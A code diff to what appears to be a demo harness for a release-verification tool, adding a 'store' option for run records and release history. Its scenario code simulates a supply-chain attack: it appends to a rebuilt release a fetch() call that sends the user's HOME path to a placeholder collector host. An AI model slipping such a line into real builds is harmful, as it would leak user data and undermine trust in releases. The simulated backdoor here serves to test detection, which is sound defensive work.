@@ -32,8 +32,12 @@ export interface DemoScenario {
   runsDir: string;
   repo: DemoRepo;
   gitlab: GitLabStandIn;
-  /** runs `release-verifier verify --json` as a child process, as a user would */
-  verify(options?: { echo?: boolean }): Promise<VerifyOutcome>;
+  /**
+   * Runs `release-verifier verify --json` as a child process, as a user would. `store` is the
+   * directory of run records and of the ledger (release history): runs sharing a store compare
+   * what they see with what earlier runs saw. Default: the workspace.
+   */
+  verify(options?: { echo?: boolean; store?: string }): Promise<VerifyOutcome>;
   /** replaces the Linux tarball with a build of modified source, re-signed with the maintainer's key */
   publishBackdooredLinuxBuild(): void;
   /** restores the genuine Linux tarball and signature */
@@ -120,7 +124,7 @@ export async function setupDemo(workspace: string): Promise<DemoScenario> {
     runsDir,
     repo,
     gitlab,
-    verify: (options = {}) => runVerify(configPath, runsDir, options.echo ?? false),
+    verify: (options = {}) => runVerify(configPath, options.store ?? runsDir, options.echo ?? false),
     publishBackdooredLinuxBuild() {
       const evil = officialBuild(repo, 'linux', join(workspace, 'attacker', 'linux'), (src) =>
         appendFileSync(join(src, 'src', 'planner.js'), `\nfetch('https://collector.invalid/' + process.env.HOME).catch(() => {});\n`),
